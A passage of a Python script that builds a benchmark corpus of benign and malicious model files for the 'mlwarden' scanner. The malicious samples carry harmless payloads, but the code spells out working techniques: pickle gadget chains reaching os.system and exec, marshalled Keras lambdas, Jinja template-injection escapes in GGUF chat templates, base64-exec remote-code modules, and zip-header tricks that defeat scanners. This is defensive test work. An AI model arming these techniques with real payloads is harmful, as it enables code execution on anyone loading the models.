"""Build the benchmark corpus: malicious and benign model artifacts in 16 formats, plus a manifest.

Every malicious sample carries a HARMLESS payload (``os.system("true")``, ``echo``) and is written as bytes:
hand-written pickle opcodes, hand-encoded protobuf, or a framework's *writer* (torch.save, joblib.dump,
np.save) pickling an object whose ``__reduce__`` names the payload callable. Pickling never calls it.
Nothing in this module ever loads, unpickles, imports or runs a sample: no torch.load, joblib.load,
np.load(allow_pickle=True), keras load_model or onnx.load. Benign samples are written by the real libraries
(torch, joblib, numpy, h5py, onnx, safetensors) so that they look like what users actually ship.

Run ``python benchmarks/corpus.py [--out DIR]`` to (re)build the corpus on its own; run_comparison.py calls
``build_corpus``. The layout is ``<out>/<label>/<format>/<sample>`` and ``<out>/manifest.json``.
"""

from __future__ import annotations

import argparse
import base64
import bz2
import gzip
import io
import json
import marshal
import os
import pickle
import pickletools
import shutil
import struct
import sys
import tarfile
import time
import zipfile
from collections import OrderedDict
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path
from typing import Any

from mlwarden.demo import pickle_global, pickle_unicode, proto_field

BENCH_DIR = Path(__file__).resolve().parent
DEFAULT_OUT = BENCH_DIR / ".work" / "corpus"
CORPUS_VERSION = 2  # bump when samples change, so cached corpora are rebuilt

# The harmless command every payload would run. Nothing here runs it.
CMD = "true"
ECHO = "echo mlwarden-benchmark-payload"

MALICIOUS = "malicious"
BENIGN = "benign"

# The 16 formats of the corpus, in report order.
FORMATS: tuple[str, ...] = (
    "pickle", "pytorch-zip", "pytorch-legacy", "torchscript", "joblib", "joblib-compressed", "npy", "npz",
    "keras", "keras-h5", "tf-savedmodel", "onnx", "gguf", "safetensors", "archive", "hf-folder",
)


@dataclass(frozen=True)
class Sample:
    """One corpus entry: a file, or a folder (``files`` has several entries or ``folder`` is set)."""

    label: str  # MALICIOUS or BENIGN
    fmt: str  # one of FORMATS
    name: str  # file or folder name inside <label>/<fmt>/
    technique: str  # what the sample does, in a few words
    files: dict[str, bytes]  # path relative to the sample -> content; {name: data} for a single file
    expected_rule: str | None = None  # the mlwarden rule a malicious sample should raise
    folder: bool = False

    @property
    def sample_id(self) -> str:
        return f"{self.label}/{self.fmt}/{self.name}"


# --- pickle opcodes, written by hand: the payload callables never have to exist in this process ------------

def _proto(n: int) -> bytes:
    return b"\x80" + bytes([n])


def _framed(protocol: int, body: bytes) -> bytes:
    """Protocol 4/5 pickles put their opcodes in a FRAME (pickletools: FRAME = 0x95, 8-byte length)."""
    return _proto(protocol) + b"\x95" + struct.pack("<Q", len(body)) + body


_g = pickle_global  # GLOBAL, all protocols
_u = pickle_unicode  # BINUNICODE, protocol 1+


def _su(text: str) -> bytes:
    raw = text.encode()
    return b"\x8c" + bytes([len(raw)]) + raw


def _sg(module: str, name: str) -> bytes:
    """STACK_GLOBAL (protocol 4+): module and name pushed as strings."""
    return _su(module) + _su(name) + b"\x93"


def _bytes(data: bytes) -> bytes:
    return b"B" + struct.pack("<I", len(data)) + data


TUPLE1, TUPLE2, TUPLE3, REDUCE, STOP, MARK = b"\x85", b"\x86", b"\x87", b"R", b".", b"("
EMPTY_LIST, APPEND, EMPTY_DICT, NONE, NEWTRUE, EMPTY_TUPLE = b"]", b"a", b"}", b"N", b"\x88", b")"


def pkl_p0_os_system() -> bytes:
    return b"cos\nsystem\n(S'" + CMD.encode() + b"'\ntR."


def pkl_p0_eval() -> bytes:
    return b"c__builtin__\neval\n(S\"__import__('os').system('" + CMD.encode() + b"')\"\ntR."


def pkl_p0_inst() -> bytes:
    """INST pushes the call without a REDUCE opcode."""
    return b"(S'" + CMD.encode() + b"'\nios\nsystem\n."


def pkl_p2_posix_system() -> bytes:
    return _proto(2) + _g("posix", "system") + _u(CMD) + TUPLE1 + REDUCE + STOP


def pkl_p2_getattr_import() -> bytes:
    """getattr(__import__('os'), 'system')('true'): the dangerous name appears only as a string argument."""
    return (_proto(2) + _g("builtins", "getattr") + _g("builtins", "__import__") + _u("os") + TUPLE1 + REDUCE
            + _u("system") + TUPLE2 + REDUCE + _u(CMD) + TUPLE1 + REDUCE + STOP)


def pkl_p2_obj_subprocess() -> bytes:
    """OBJ opcode (MARK callable args... OBJ) instead of REDUCE."""
    return _proto(2) + MARK + _g("subprocess", "call") + _u(CMD) + b"o" + STOP


def pkl_p4_stack_global_memo() -> bytes:
    """Module and name are memoized early and fetched back by index right before STACK_GLOBAL."""
    memoized = b"\x94" + b"0"  # MEMOIZE then POP: the string lives only in the memo
    body = (_su("os") + memoized + _su("weights") + memoized + _su("system") + memoized
            + b"h\x00h\x02\x93" + _su(CMD) + TUPLE1 + REDUCE + STOP)
    return _framed(4, body)


def pkl_p4_builtins_exec() -> bytes:
    return _framed(4, _sg("builtins", "exec") + _su(f"import os\nos.system('{CMD}')") + TUPLE1 + REDUCE + STOP)


def pkl_p4_attrgetter_import() -> bytes:
    """operator.attrgetter('system')(builtins.__import__('os'))('true')."""
    body = (_sg("operator", "attrgetter") + _su("system") + TUPLE1 + REDUCE
            + _sg("builtins", "__import__") + _su("os") + TUPLE1 + REDUCE + TUPLE1 + REDUCE
            + _su(CMD) + TUPLE1 + REDUCE + STOP)
    return _framed(4, body)


def pkl_p4_methodcaller_importlib() -> bytes:
    """operator.methodcaller('system', 'true')(importlib.import_module('os'))."""
    body = (_sg("operator", "methodcaller") + _su("system") + _su(CMD) + TUPLE2 + REDUCE
            + _sg("importlib", "import_module") + _su("os") + TUPLE1 + REDUCE + TUPLE1 + REDUCE + STOP)
    return _framed(4, body)


def pkl_p4_functools_partial() -> bytes:
    """functools.partial(posix.system, 'true')() — the call happens on the partial object."""
    body = (_sg("functools", "partial") + _sg("posix", "system") + _su(CMD) + TUPLE2 + REDUCE
            + EMPTY_TUPLE + REDUCE + STOP)
    return _framed(4, body)


def pkl_p4_torch_load_from_bytes() -> bytes:
    """torch.storage._load_from_bytes(b'<pickle>') re-enters torch.load on an embedded payload."""
    return _framed(4, _sg("torch.storage", "_load_from_bytes") + _bytes(pkl_p2_posix_system()) + TUPLE1
                   + REDUCE + STOP)


def pkl_p4_numpy_load() -> bytes:
    """numpy.load('payload.npy', None, True): re-enters a deserializer with allow_pickle=True."""
    return _framed(4, _sg("numpy", "load") + _su("payload.npy") + NONE + NEWTRUE + TUPLE3 + REDUCE + STOP)


def pkl_p5_runpy() -> bytes:
    return _framed(5, _sg("runpy", "_run_code") + _su(f"import os\nos.system('{CMD}')") + EMPTY_DICT + TUPLE2
                   + REDUCE + STOP)


def pkl_p5_pip_main() -> bytes:
    return _framed(5, _sg("pip", "main") + EMPTY_LIST + _su("--version") + APPEND + TUPLE1 + REDUCE + STOP)


def pkl_p5_unknown_module() -> bytes:
    """A callable from a module that does not exist anywhere: no deny-list can know it."""
    return _framed(5, _sg("evilcorp_ml.hooks", "bootstrap") + _su(CMD) + TUPLE1 + REDUCE + STOP)


def pkl_p5_subprocess_list() -> bytes:
    return _framed(5, _sg("subprocess", "check_call") + EMPTY_LIST + _su(CMD) + APPEND + TUPLE1 + REDUCE + STOP)


def pkl_second_concatenated() -> bytes:
    """A benign pickle followed by a second one: pickle.load reads the first, loaders that loop read both."""
    return pickle.dumps({"weights": [0.25, -0.5], "epoch": 3}, protocol=2) + pkl_p2_posix_system()


class ReducePayload:
    """Pickles as ``func(*args)``. Used only to let a framework *writer* emit a payload; never unpickled here."""

    def __init__(self, func: Callable[..., Any], *args: Any) -> None:
        self.func = func
        self.args = args

    def __reduce__(self) -> tuple[Any, ...]:
        return self.func, self.args


def _os_system_payload() -> ReducePayload:
    return ReducePayload(os.system, CMD)


# --- zip helpers -----------------------------------------------------------------------------------------

def _zip(members: dict[str, bytes], compression: int = zipfile.ZIP_STORED) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", compression) as archive:
        for name, data in members.items():
            archive.writestr(name, data)
    return out.getvalue()


def _zip_members(data: bytes) -> dict[str, bytes]:
    """Read back a zip that this module wrote itself (benign bytes only)."""
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return {info.filename: archive.read(info) for info in archive.infolist()}


def _patch_zip_member(data: bytes, member: str, *, bad_crc: bool = False, encrypted_flag: bool = False) -> bytes:
    """Corrupt one member's CRC and/or set its 'encrypted' flag bit in the local and central headers.

    PyTorch's reader tolerates both; Python's zipfile refuses to read the member, so scanners built on it
    give up. Offsets from the ZIP APPNOTE (4.3.7 local header, 4.3.12 central directory header).
    """
    buf = bytearray(data)
    name = member.encode()
    pos = 0
    while (pos := buf.find(b"PK\x03\x04", pos)) >= 0:
        name_len = struct.unpack_from("<H", buf, pos + 26)[0]
        if bytes(buf[pos + 30:pos + 30 + name_len]) == name:
            if encrypted_flag:
                struct.pack_into("<H", buf, pos + 6, struct.unpack_from("<H", buf, pos + 6)[0] | 1)
            if bad_crc:
                struct.pack_into("<I", buf, pos + 14, struct.unpack_from("<I", buf, pos + 14)[0] ^ 0xFFFFFFFF)
        pos += 4
    pos = 0
    while (pos := buf.find(b"PK\x01\x02", pos)) >= 0:
        name_len = struct.unpack_from("<H", buf, pos + 28)[0]
        if bytes(buf[pos + 46:pos + 46 + name_len]) == name:
            if encrypted_flag:
                struct.pack_into("<H", buf, pos + 8, struct.unpack_from("<H", buf, pos + 8)[0] | 1)
            if bad_crc:
                struct.pack_into("<I", buf, pos + 16, struct.unpack_from("<I", buf, pos + 16)[0] ^ 0xFFFFFFFF)
        pos += 4
    return bytes(buf)


def _tar(members: dict[str, bytes], mode: str = "w", links: dict[str, str] | None = None) -> bytes:
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode=mode) as archive:
        for name, data in members.items():
            info = tarfile.TarInfo(name)
            info.size = len(data)
            info.mtime = 1_700_000_000
            archive.addfile(info, io.BytesIO(data))
        for name, target in (links or {}).items():
            info = tarfile.TarInfo(name)
            info.type = tarfile.SYMTYPE
            info.linkname = target
            info.mtime = 1_700_000_000
            archive.addfile(info)
    return out.getvalue()


# --- framework writers (benign content, or a wrapped ReducePayload) --------------------------------------

def _torch() -> Any:
    import torch

    torch.manual_seed(0)
    return torch


def _state_dict(scale: int = 1) -> OrderedDict[str, Any]:
    torch = _torch()
    return OrderedDict([
        ("encoder.weight", torch.randn(16 * scale, 8)), ("encoder.bias", torch.zeros(16 * scale)),
        ("head.weight", torch.randn(4, 16 * scale)), ("head.bias", torch.zeros(4)),
        ("norm.running_mean", torch.zeros(16 * scale)), ("norm.num_batches_tracked", torch.tensor(7)),
    ])


def torch_save(obj: Any, legacy: bool = False) -> bytes:
    torch = _torch()
    out = io.BytesIO()
    torch.save(obj, out, _use_new_zipfile_serialization=not legacy)
    return out.getvalue()


def _split_pickles(data: bytes, count: int) -> tuple[list[bytes], bytes]:
    """Cut the first ``count`` concatenated pickles off ``data`` (a benign file written here) by parsing
    opcodes with pickletools; returns them and the rest (raw storage bytes)."""
    pieces = []
    stream = io.BytesIO(data)
    for _ in range(count):
        start = stream.tell()
        for opcode, _arg, _pos in pickletools.genops(stream):
            if opcode.name == "STOP":
                break
        pieces.append(data[start:stream.tell()])
    return pieces, data[stream.tell():]


def _scripted_module(read_file: bool) -> Any:
    """torch.jit.script needs the classes' source, so they live in their own module (torch_models.py)."""
    import torch_models

    torch = _torch()  # seeded, so the scripted weights are the same on every build
    return torch.jit.script(torch_models.FileReader() if read_file else torch_models.TinyNet())


def _tiny_net() -> Any:
    import torch_models

    return torch_models.TinyNet()


def torchscript_bytes(module: Any, extra_files: dict[str, bytes] | None = None) -> bytes:
    torch = _torch()
    out = io.BytesIO()
    torch.jit.save(module, out, _extra_files=extra_files or {})
    return out.getvalue()


def joblib_bytes(obj: Any, compress: Any = 0) -> bytes:
    import joblib

    out = io.BytesIO()
    joblib.dump(obj, out, compress=compress)
    return out.getvalue()


def npy_bytes(array: Any) -> bytes:
    import numpy as np

    out = io.BytesIO()
    np.save(out, array, allow_pickle=True)  # writing only; allow_pickle governs object arrays on save
    return out.getvalue()


def npz_bytes(compressed: bool, **arrays: Any) -> bytes:
    import numpy as np

    out = io.BytesIO()
    (np.savez_compressed if compressed else np.savez)(out, **arrays)
    return out.getvalue()


def npy_header(descr: str, shape: tuple[int, ...], version: tuple[int, int] = (1, 0)) -> bytes:
    """The .npy header (numpy/lib/format.py layout): magic, version, header length, padded dict literal."""
    header = repr({"descr": descr, "fortran_order": False, "shape": shape}).encode()
    len_size = 2 if version == (1, 0) else 4
    pad = -(6 + 2 + len_size + len(header) + 1) % 64
    header += b" " * pad + b"\n"
    fmt = "<H" if len_size == 2 else "<I"
    return b"\x93NUMPY" + bytes(version) + struct.pack(fmt, len(header)) + header


# --- protobuf (hand-encoded: TF SavedModel and Keras metadata) -------------------------------------------
# One field encoder for the project: the demo's (a varint for ints, length-delimited for bytes and str).
_pf = proto_field

def _attr(key: str, value: bytes) -> bytes:
    """NodeDef.attr map entry (key=1, value=2: an AttrValue message)."""
    return _pf(5, _pf(1, key) + _pf(2, value))


def _node(name: str, op: str, inputs: tuple[str, ...] = (), attrs: bytes = b"") -> bytes:
    """tensorflow/core/framework/node_def.proto: name=1, op=2, input=3, device=4, attr=5."""
    return _pf(1, name) + _pf(2, op) + b"".join(_pf(3, i) for i in inputs) + attrs


DT_FLOAT, DT_STRING = 1, 7


def _saved_model(nodes: list[bytes], functions: list[tuple[str, list[bytes]]] | None = None) -> bytes:
    """saved_model.proto: SavedModel{schema_version=1, meta_graphs=2}; MetaGraphDef{meta_info_def=1,
    graph_def=2}; GraphDef{node=1, library=2, versions=4}; FunctionDefLibrary{function=1};
    FunctionDef{signature=1 (OpDef name=1), node_def=3}."""
    library = b"".join(
        _pf(1, _pf(1, _pf(1, fname)) + b"".join(_pf(3, n) for n in fnodes)) for fname, fnodes in functions or [])
    graph = b"".join(_pf(1, n) for n in nodes) + (_pf(2, library) if library else b"") + _pf(4, _pf(1, 1882))
    meta_info = _pf(4, "serve") + _pf(5, "2.17.0")
    meta_graph = _pf(1, meta_info) + _pf(2, graph)
    if any(b"save/restore_all" in n for n in nodes):
        meta_graph += _pf(3, _SAVER_DEF)
    return _pf(1, 1) + _pf(2, meta_graph)


def _dense_graph() -> list[bytes]:
    t_float = _pf(6, DT_FLOAT)
    return [
        _node("x", "Placeholder", attrs=_attr("dtype", t_float)),
        _node("dense/kernel", "VarHandleOp", attrs=_attr("dtype", t_float) + _attr("shared_name", _pf(2, "k"))),
        _node("dense/read", "ReadVariableOp", ("dense/kernel",), _attr("dtype", t_float)),
        _node("dense/MatMul", "MatMul", ("x", "dense/read"), _attr("T", t_float)),
        _node("dense/Relu", "Relu", ("dense/MatMul",), _attr("T", t_float)),
        _node("Identity", "Identity", ("dense/Relu",), _attr("T", t_float)),
    ]


def _saver_nodes() -> list[bytes]:
    """What tf.compat.v1 SavedModelBuilder writes for its sharded Saver (TF 2.21): the checkpoint ops under the
    "save/" name scope, reached from MetaGraphDef.saver_def (see _SAVER_DEF)."""
    t_str = _pf(6, DT_STRING)
    return [
        _node("save/filename/input", "Const", attrs=_attr("dtype", t_str)),
        _node("save/filename", "PlaceholderWithDefault", ("save/filename/input",)),
        _node("save/Const", "PlaceholderWithDefault", ("save/filename",)),
        _node("save/StringJoin", "StringJoin", ("save/Const",)),
        _node("save/num_shards", "Const"),
        _node("save/ShardedFilename", "ShardedFilename", ("save/StringJoin", "save/num_shards")),
        _node("save/SaveV2", "SaveV2", ("save/ShardedFilename", "dense/read")),
        _node("save/control_dependency", "Identity", ("save/ShardedFilename", "^save/SaveV2")),
        _node("save/MergeV2Checkpoints/checkpoint_prefixes", "Pack",
              ("save/ShardedFilename", "^save/control_dependency")),
        _node("save/MergeV2Checkpoints", "MergeV2Checkpoints",
              ("save/MergeV2Checkpoints/checkpoint_prefixes", "save/Const")),
        _node("save/Identity", "Identity", ("save/Const", "^save/MergeV2Checkpoints", "^save/control_dependency")),
        _node("save/RestoreV2", "RestoreV2", ("save/Const",)),
        _node("save/AssignVariableOp", "AssignVariableOp", ("dense/kernel", "save/RestoreV2")),
        _node("save/restore_shard", "NoOp", ("^save/AssignVariableOp",)),
        _node("save/restore_all", "NoOp", ("^save/restore_shard",)),
    ]


# meta_graph.proto MetaGraphDef.saver_def = 3; saver.proto SaverDef{filename_tensor_name=1, save_tensor_name=2,
# restore_op_name=3, max_to_keep=4, sharded=5}: the values TF 2.21's sharded Saver writes.
_SAVER_DEF = (_pf(1, "save/Const:0") + _pf(2, "save/Identity:0") + _pf(3, "save/restore_all") + _pf(4, 5)
              + _pf(5, 1))


def _savedmodel_folder(pb: bytes) -> dict[str, bytes]:
    # fingerprint.proto: FingerprintDef{saved_model_checksum=1, graph_def_program_hash=2, signature_def_hash=3,
    # saved_object_graph_hash=4, checkpoint_hash=5, version=6 (VersionDef producer=1)}; hashes are uint64.
    fingerprint = (_pf(1, 0x9C3D51E2A7B04F18) + _pf(2, 0x5A1F00C3D2E4B796) + _pf(3, 0xE07A3B91C4D2F563)
                   + _pf(4, 0x1B2C3D4E5F607182) + _pf(5, 0xF1E2D3C4B5A69788) + _pf(6, _pf(1, 1)))
    return {"saved_model.pb": pb, "variables/variables.index": b"\x00" * 16,
            "variables/variables.data-00000-of-00001": b"\x00" * 64, "fingerprint.pb": fingerprint}


def _keras_metadata(layers: list[dict[str, Any]]) -> bytes:
    """keras/protobuf/saved_metadata.proto: SavedMetadata{nodes=1}; SavedObject{node_id=2, node_path=3,
    identifier=4, metadata=5}."""
    out = b""
    for i, layer in enumerate(layers):
        out += _pf(1, _pf(2, i + 1) + _pf(3, f"root.layer-{i}") + _pf(4, "_tf_keras_layer")
                   + _pf(5, json.dumps(layer)))
    return out


# --- Keras ------------------------------------------------------------------------------------------------

def _lambda_code_b64() -> str:
    """Real marshalled bytecode of ``lambda x: __import__('os').system('true') or x``; compiled, never run."""
    code = compile(f"lambda x: __import__('os').system('{CMD}') or x", "<lambda>", "eval")
    lambda_code = next(c for c in code.co_consts if hasattr(c, "co_code"))
    return base64.b64encode(marshal.dumps(lambda_code)).decode()


def _k3_layer(class_name: str, config: dict[str, Any], module: str = "keras.layers") -> dict[str, Any]:
    return {"module": module, "class_name": class_name, "config": config, "registered_name": None}


def _k3_dense(name: str, units: int) -> dict[str, Any]:
    return _k3_layer("Dense", {"name": name, "trainable": True, "dtype": "float32", "units": units,
                               "activation": "relu", "use_bias": True,
                               "kernel_initializer": {"module": "keras.initializers", "class_name": "GlorotUniform",
                                                      "config": {"seed": None}, "registered_name": None}})


def _k3_lambda_marshal(name: str) -> dict[str, Any]:
    return _k3_layer("Lambda", {"name": name, "trainable": True, "dtype": "float32",
                                "function": {"class_name": "__lambda__",
                                             "config": {"code": _lambda_code_b64(), "defaults": None,
                                                        "closure": None}},
                                "output_shape": None, "arguments": {}})


def _k3_sequential(name: str, layers: list[dict[str, Any]]) -> dict[str, Any]:
    first = _k3_layer("InputLayer", {"batch_shape": [None, 8], "dtype": "float32", "name": "input"})
    return {"module": "keras", "class_name": "Sequential", "registered_name": None,
            "config": {"name": name, "trainable": True, "dtype": "float32", "layers": [first, *layers]},
            "build_config": {"input_shape": [None, 8]}}


def _h5_weights(layers: dict[str, tuple[int, ...]]) -> bytes:
    import h5py
    import numpy as np

    out = io.BytesIO()
    with h5py.File(out, "w") as h5:
        for path, shape in layers.items():
            h5.create_dataset(path, data=np.full(shape, 0.125, dtype="float32"))
    return out.getvalue()


def keras_archive(model_config: dict[str, Any], weights: dict[str, tuple[int, ...]]) -> bytes:
    metadata = {"keras_version": "3.6.0", "date_saved": "2026-10-01@12:00:00"}
    return _zip({"metadata.json": json.dumps(metadata).encode(), "config.json": json.dumps(model_config).encode(),
                 "model.weights.h5": _h5_weights(weights)}, zipfile.ZIP_DEFLATED)


def _k2_layer(class_name: str, config: dict[str, Any]) -> dict[str, Any]:
    return {"class_name": class_name, "config": config}


def _k2_lambda(name: str) -> dict[str, Any]:
    """Keras 2 (tf.keras) serializes a lambda as [base64 marshal, defaults, closure] with function_type."""
    return _k2_layer("Lambda", {"name": name, "trainable": True, "dtype": "float32",
                                "function": [_lambda_code_b64(), None, None], "function_type": "lambda",
                                "module": "__main__", "output_shape": None, "output_shape_type": "raw",
                                "arguments": {}})


def _k2_dense(name: str, units: int) -> dict[str, Any]:
    return _k2_layer("Dense", {"name": name, "trainable": True, "dtype": "float32", "units": units,
                               "activation": "relu", "use_bias": True,
                               "kernel_initializer": {"class_name": "GlorotUniform", "config": {"seed": None}}})


def keras_h5(model_config: dict[str, Any], weights: dict[str, tuple[int, ...]]) -> bytes:
    import h5py
    import numpy as np

    out = io.BytesIO()
    with h5py.File(out, "w") as h5:
        h5.attrs["keras_version"] = "2.15.0"
        h5.attrs["backend"] = "tensorflow"
        h5.attrs["model_config"] = json.dumps(model_config)
        group = h5.create_group("model_weights")
        for path, shape in weights.items():
            group.create_dataset(path, data=np.full(shape, 0.125, dtype="float32"))
    return out.getvalue()


def _k2_model(class_name: str, layers: list[dict[str, Any]]) -> dict[str, Any]:
    return {"class_name": class_name, "config": {"name": "model", "layers": layers}}


# --- ONNX -------------------------------------------------------------------------------------------------

def onnx_model(location: str | None, where: str = "initializer") -> bytes:
    """A small Gemm model built with onnx.helper. ``location`` puts one tensor's data in an external file
    (initializer, Constant attribute, or an If subgraph); None keeps everything inline."""
    import numpy as np
    import onnx
    from onnx import TensorProto, helper, numpy_helper

    def external(name: str, loc: str) -> onnx.TensorProto:
        tensor = TensorProto(name=name, data_type=TensorProto.FLOAT, dims=[4, 2])
        tensor.data_location = TensorProto.EXTERNAL
        for key, value in (("location", loc), ("offset", "0"), ("length", "32")):
            entry = tensor.external_data.add()
            entry.key, entry.value = key, value
        return tensor

    weight = numpy_helper.from_array(np.full((4, 2), 0.5, dtype=np.float32), "W")
    bias = numpy_helper.from_array(np.zeros(2, dtype=np.float32), "B")
    nodes = [helper.make_node("Gemm", ["X", "W", "B"], ["Y"])]
    initializers = [weight, bias]
    if location is not None and where == "initializer":
        initializers[0] = external("W", location)
    elif location is not None and where == "constant":
        nodes.insert(0, helper.make_node("Constant", [], ["C"], value=external("C", location)))
        nodes.append(helper.make_node("Add", ["Y", "Y"], ["Y2"]))
    elif location is not None and where == "subgraph":
        branch_out = helper.make_tensor_value_info("Z", TensorProto.FLOAT, [4, 2])
        branch = helper.make_graph([helper.make_node("Identity", ["S"], ["Z"])], "then", [], [branch_out],
                                   initializer=[external("S", location)])
        else_branch = helper.make_graph([helper.make_node("Identity", ["W"], ["Z"])], "else", [], [branch_out])
        cond = numpy_helper.from_array(np.array(True), "cond")
        initializers.append(cond)
        nodes.append(helper.make_node("If", ["cond"], ["Z"], then_branch=branch, else_branch=else_branch))
    graph = helper.make_graph(nodes, "bench", [helper.make_tensor_value_info("X", TensorProto.FLOAT, [1, 4])],
                              [helper.make_tensor_value_info("Y", TensorProto.FLOAT, [1, 2])],
                              initializer=initializers)
    model = helper.make_model(graph, producer_name="mlwarden-benchmark",
                              opset_imports=[helper.make_opsetid("", 17)])
    model.ir_version = 8
    return model.SerializeToString()


# --- GGUF -------------------------------------------------------------------------------------------------

# GGUF value types (ggml/docs/gguf.md): 4 = UINT32, 6 = FLOAT32, 8 = STRING, 9 = ARRAY.
_GGUF_UINT32, _GGUF_FLOAT32, _GGUF_STRING, _GGUF_ARRAY = 4, 6, 8, 9


def _gs(value: str) -> bytes:
    raw = value.encode()
    return struct.pack("<Q", len(raw)) + raw


def gguf_file(metadata: dict[str, Any], n_kv_override: int | None = None) -> bytes:
    """GGUF v3 with the given metadata and one F32 tensor of shape [8] (32-byte aligned data section)."""
    kv = b""
    for key, value in metadata.items():
        kv += _gs(key)
        if isinstance(value, str):
            kv += struct.pack("<I", _GGUF_STRING) + _gs(value)
        elif isinstance(value, float):
            kv += struct.pack("<If", _GGUF_FLOAT32, value)
        elif isinstance(value, int):
            kv += struct.pack("<II", _GGUF_UINT32, value)
        else:  # list of strings
            kv += struct.pack("<IIQ", _GGUF_ARRAY, _GGUF_STRING, len(value)) + b"".join(_gs(v) for v in value)
    n_kv = len(metadata) if n_kv_override is None else n_kv_override
    out = b"GGUF" + struct.pack("<IQQ", 3, 1, n_kv) + kv
    out += _gs("token_embd.weight") + struct.pack("<I", 1) + struct.pack("<Q", 8) + struct.pack("<IQ", 0, 0)
    out += b"\x00" * (-len(out) % 32)
    return out + struct.pack("<8f", *([0.5] * 8))


def _gguf_meta(template: str, **extra: Any) -> dict[str, Any]:
    meta: dict[str, Any] = {"general.architecture": "llama", "general.name": "bench-tiny",
                            "llama.context_length": 4096, "llama.rope.freq_base": 500000.0,
                            "tokenizer.ggml.model": "gpt2",
                            "tokenizer.ggml.tokens": ["<|begin_of_text|>", "<|eot_id|>", "hello", "world"],
                            "tokenizer.chat_template": template}
    meta.update(extra)
    return meta


# Real templates as shipped by Meta (Llama 3 Instruct) and Qwen/ChatML models.
LLAMA3_TEMPLATE = (
    "{% set loop_messages = messages %}{% for message in loop_messages %}{% set content = '<|start_header_id|>' + "
    "message['role'] + '<|end_header_id|>\n\n'+ message['content'] | trim + '<|eot_id|>' %}{% if loop.index0 == 0 %}"
    "{% set content = bos_token + content %}{% endif %}{{ content }}{% endfor %}{% if add_generation_prompt %}"
    "{{ '<|start_header_id|>assistant<|end_header_id|>\n\n' }}{% endif %}")
CHATML_TEMPLATE = (
    "{% for message in messages %}{% if loop.first and messages[0]['role'] != 'system' %}"
    "{{ '<|im_start|>system\nYou are a helpful assistant.<|im_end|>\n' }}{% endif %}"
    "{{'<|im_start|>' + message['role'] + '\n' + message['content'] + '<|im_end|>' + '\n'}}{% endfor %}"
    "{% if add_generation_prompt %}{{ '<|im_start|>assistant\n' }}{% endif %}")
MISTRAL_TEMPLATE = (
    "{{ bos_token }}{% for message in messages %}{% if (message['role'] == 'user') != (loop.index0 % 2 == 0) %}"
    "{{ raise_exception('Conversation roles must alternate user/assistant/user/assistant/...') }}{% endif %}"
    "{% if message['role'] == 'user' %}{{ '[INST] ' + message['content'] + ' [/INST]' }}"
    "{% elif message['role'] == 'assistant' %}{{ message['content'] + eos_token}}{% endif %}{% endfor %}")
_SSTI_CYCLER = "{{ cycler.__init__.__globals__.os.popen('" + ECHO + "').read() }}"
_SSTI_BUILTINS = ("{% set b = self.__init__.__globals__.__builtins__ %}"
                  "{{ b.__import__('os').system('" + CMD + "') }}")
_SSTI_SUBCLASSES = ("{% for c in ''.__class__.__mro__[1].__subclasses__() %}{% if c.__name__ == 'Popen' %}"
                    "{{ c(['" + CMD + "']) }}{% endif %}{% endfor %}")
_SSTI_LIPSUM = "{{ lipsum.__globals__['os'].popen('" + ECHO + "').read() }}"


# --- safetensors ------------------------------------------------------------------------------------------

def safetensors_bytes(tensors: dict[str, Any], metadata: dict[str, str] | None = None) -> bytes:
    from safetensors.numpy import save

    return save(tensors, metadata=metadata)


def _safetensors_raw(header: dict[str, Any], data: bytes, length_override: int | None = None) -> bytes:
    raw = json.dumps(header).encode()
    raw += b" " * (-len(raw) % 8)
    return struct.pack("<Q", len(raw) if length_override is None else length_override) + raw + data


# --- Hugging Face folders -----------------------------------------------------------------------------------

_MODELING_OS_SYSTEM = f'''"""Custom modeling code loaded by trust_remote_code=True."""
import os

from transformers import PreTrainedModel


class BenchModel(PreTrainedModel):
    def __init__(self, config):
        super().__init__(config)
        os.system("{CMD}")
'''

_TOKENIZER_SUBPROCESS = f'''"""Custom tokenizer loaded by trust_remote_code=True."""
import subprocess

from transformers import PreTrainedTokenizer


class BenchTokenizer(PreTrainedTokenizer):
    def __init__(self, **kwargs):
        subprocess.run(["{CMD}"], check=False)
        super().__init__(**kwargs)
'''

_CONFIG_EXEC_B64 = '''"""Configuration class that decodes and runs a hidden blob."""
import base64

from transformers import PretrainedConfig

_BLOB = "{blob}"


class BenchConfig(PretrainedConfig):
    model_type = "bench"

    def __init__(self, **kwargs):
        exec(base64.b64decode(_BLOB))
        super().__init__(**kwargs)
'''.replace("{blob}", base64.b64encode(f"import os; os.system('{CMD}')".encode()).decode())


def _hf_config(model_type: str, auto_map: dict[str, str] | None = None) -> bytes:
    config: dict[str, Any] = {"architectures": ["BertModel" if model_type == "bert" else "GPT2LMHeadModel"],
                              "model_type": model_type, "hidden_size": 16, "num_attention_heads": 2,
                              "num_hidden_layers": 2, "vocab_size": 64, "torch_dtype": "float32",
                              "transformers_version": "4.46.0"}
    if auto_map:
        config["auto_map"] = auto_map
    return json.dumps(config, indent=2).encode()


_TOKENIZER_JSON = json.dumps({"version": "1.0", "model": {"type": "WordPiece", "vocab": {"[PAD]": 0, "[UNK]": 1,
                                                                                         "hello": 2}}}).encode()


# --- the corpus ---------------------------------------------------------------------------------------------

def _m(fmt: str, name: str, technique: str, data: bytes | dict[str, bytes], rule: str) -> Sample:
    if isinstance(data, dict):
        return Sample(MALICIOUS, fmt, name, technique, data, rule, folder=True)
    return Sample(MALICIOUS, fmt, name, technique, {name: data}, rule)


def _b(fmt: str, name: str, technique: str, data: bytes | dict[str, bytes]) -> Sample:
    if isinstance(data, dict):
        return Sample(BENIGN, fmt, name, technique, data, folder=True)
    return Sample(BENIGN, fmt, name, technique, {name: data})


def pickle_samples() -> list[Sample]:
    import numpy as np

    return [
        _m("pickle", "p0_os_system.pkl", "protocol 0 GLOBAL os.system + REDUCE", pkl_p0_os_system(), "MW-PKL-001"),
        _m("pickle", "p0_builtin_eval.pkl", "protocol 0 __builtin__.eval of an __import__ expression",
           pkl_p0_eval(), "MW-PKL-001"),
        _m("pickle", "p0_inst_opcode.pkl", "INST opcode calls os.system without REDUCE", pkl_p0_inst(),
           "MW-PKL-001"),
        _m("pickle", "p2_posix_system.pkl", "protocol 2 posix.system (os alias)", pkl_p2_posix_system(),
           "MW-PKL-001"),
